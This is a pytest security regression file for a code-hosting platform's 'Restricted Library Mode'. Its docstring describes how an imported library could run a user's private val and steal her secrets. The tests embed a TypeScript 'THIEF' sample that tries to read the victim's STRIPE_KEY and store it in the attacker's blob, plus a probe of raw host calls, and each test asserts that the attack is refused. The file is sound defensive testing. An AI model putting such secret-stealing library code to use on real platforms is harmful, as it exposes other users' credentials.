"""Code written by someone else carries no one's authority (finding 1).

Restricted Library Mode's rule: another user's code never touches the caller's private
state. Two ways around it were found:
- a library's host calls were authorised as the evaluation's principal, so bob's
  library imported by alice could api("alice.vault") (her private val, run as her, with
  her secrets), read the result and hand it to api("bob.collect", loot); its email()'s
  reply told it alice's address;
- pressing Run on bob's public val ran it as alice with her secrets, so it read her
  STRIPE_KEY and shipped it to bob's blob store.
Now a library's host calls are made as nobody, and someone else's val runs as an import
of it would.
"""

import json
import time

import httpx
import pytest
from django.core.cache import cache

from accounts.models import ApiToken
from accounts.secrets.models import Secret
from tests.factory import make_user, make_val
from tests.live import LiveServer, quiet_server_before_flush  # noqa: F401 (an autouse fixture)
from vals.blob import Blob
from vals.evaluations.models import Evaluation
from vals.models import Val

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture(scope="module")
def server(django_db_setup, django_db_blocker, tmp_path_factory):
    mail_dir = tmp_path_factory.mktemp("mail")
    live = LiveServer(
        {
            "TEST_EMAIL_BACKEND": "django.core.mail.backends.filebased.EmailBackend",
            "EMAIL_FILE_PATH": str(mail_dir),
            "EMAIL_SENDS_PER_HOUR": "2",
            "RUNTIME_POOL_SIZE": "5",
            "EMBEDDED_SCHEDULER": "false",
        }
    )
    live.mail_dir = mail_dir
    yield live
    live.stop()


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    # The server's rate limits live in its own memory; each test uses new users.
    cache.clear()


def run(server, user, val, args=()):
    """Runs val as user through the API and returns the evaluation's JSON."""
    _, raw = ApiToken.issue(user, "t", "write")
    response = httpx.post(
        f"{server.url}/v1/vals/{val.pk}/run", json={"args": list(args)}, headers={"Authorization": f"Bearer {raw}"}, timeout=60
    )
    assert response.status_code == 200, (response.text, server.output()[-3000:])
    return response.json()


def value_of(server, user, val, args=()):
    body = run(server, user, val, args)
    assert body["status"] == "success", (body, server.output()[-3000:])
    return body["result"]["value"]


def alice_with_a_vault():
    alice = make_user("alice")
    Secret.put(alice, "STRIPE_KEY", "sk_live_alice_1234567")
    make_val(alice, name="vault", code='export default () => Deno.env.get("STRIPE_KEY");\n', privacy=Val.Privacy.PRIVATE)
    return alice


def bob_the_collector():
    bob = make_user("bob")
    make_val(
        bob,
        name="collect",
        code='import { blob } from "/std/blob.ts";\nexport default async (loot: unknown) => { await blob.setJSON("loot", loot); return "kept"; };\n',
    )
    return bob


THIEF = """\
import { api } from "/std/api.ts";
import { email } from "/std/email.ts";
export async function helpful() {
  const found: Record<string, unknown> = {};
  try { found.vault = await api("alice.vault"); } catch (error) { found.vault = "error: " + (error as Error).message; }
  try { found.kept = await api("bob.collect", found.vault); } catch (error) { found.kept = "error: " + (error as Error).message; }
  found.email = await email({ subject: "hello from a library", text: "hi" });
  return found;
}
"""


def test_a_library_cannot_run_its_importers_private_val_nor_learn_her_address(server):
    alice, bob = alice_with_a_vault(), bob_the_collector()
    make_val(bob, name="helper", code=THIEF)
    app = make_val(alice, name="app", code='import { helpful } from "/v/bob/helper.ts";\nexport default () => helpful();\n')

    found = value_of(server, alice, app)

    assert found["vault"] == "error: api(): there is no val called 'alice.vault' that you can call."
    assert found["kept"] == "kept"  # bob's public val still runs, as bob, with nothing of alice's
    assert found["email"] == {"sent": True}
    assert "alice@example.com" not in json.dumps(found)
    assert not Evaluation.objects.filter(val__name="vault").exists()
    loot = Blob.objects.get(owner=bob, key="loot")
    assert "sk_live" not in loot.read().decode()
    # The mail itself went to the evaluation's principal, as a val's email does.
    sent = "".join(path.read_text() for path in server.mail_dir.iterdir())
    assert "hello from a library" in sent and "alice@example.com" in sent


def test_a_librarys_email_counts_apart_from_its_importers_own(server):
    alice, bob = make_user("alice"), make_user("bob")
    make_val(bob, name="spammer", code='import { email } from "/std/email.ts";\nexport const spam = () => email({ subject: "spam", text: "x" });\n')
    app = make_val(
        alice,
        name="app",
        code="""import { spam } from "/v/bob/spammer.ts";
import { email } from "/std/email.ts";
export default async () => {
  const out: string[] = [];
  for (let i = 0; i < 3; i++) { try { await spam(); out.push("library sent"); } catch (e) { out.push((e as Error).message); } }
  for (let i = 0; i < 2; i++) { try { await email({ subject: "mine", text: "x" }); out.push("alice sent"); } catch (e) { out.push((e as Error).message); } }
  return out;
};
""",
    )

    assert value_of(server, alice, app) == [
        "library sent",
        "library sent",
        "email() is limited to 2 messages an hour.",
        "alice sent",
        "alice sent",
    ]


def test_a_library_in_an_http_val_acts_as_nobody_too(server):
    alice, bob = alice_with_a_vault(), bob_the_collector()
    make_val(bob, name="helper", code=THIEF)
    make_val(
        alice,
        name="site",
        type="http",
        code='import { helpful } from "/v/bob/helper.ts";\nexport default async () => Response.json(await helpful());\n',
    )

    response = httpx.get(
        f"http://127.0.0.1:{server.port}/", headers={"Host": f"alice-site.web.localhost:{server.port}"}, timeout=60
    )

    assert response.status_code == 200, response.text
    assert response.json()["vault"].startswith("error: api(): there is no val called 'alice.vault'")
    assert "alice@example.com" not in response.text


def test_a_librarys_host_calls_besides_email_and_api_are_refused(server):
    alice, bob = make_user("alice"), make_user("bob")
    make_val(
        bob,
        name="prober",
        code="""export async function probe() {
  const call = (globalThis as any)[Symbol.for("valtown.host.call")];
  const out: string[] = [];
  for (const name of ["blob.list", "blob.set", "no.such"]) {
    try { await call(name, { key: "k", prefix: "" }); out.push("answered"); } catch (e) { out.push((e as Error).message); }
  }
  return out;
}
""",
    )
    app = make_val(alice, name="app", code='import { probe } from "/v/bob/prober.ts";\nexport default () => probe();\n')

    assert value_of(server, alice, app) == [
        "blob is not available to another user's val imported by yours (Restricted Library Mode): call it as an API with api() to use its owner's blob",
        "blob is not available to another user's val imported by yours (Restricted Library Mode): call it as an API with api() to use its owner's blob",
        "There is no host capability called 'no.such'.",
    ]
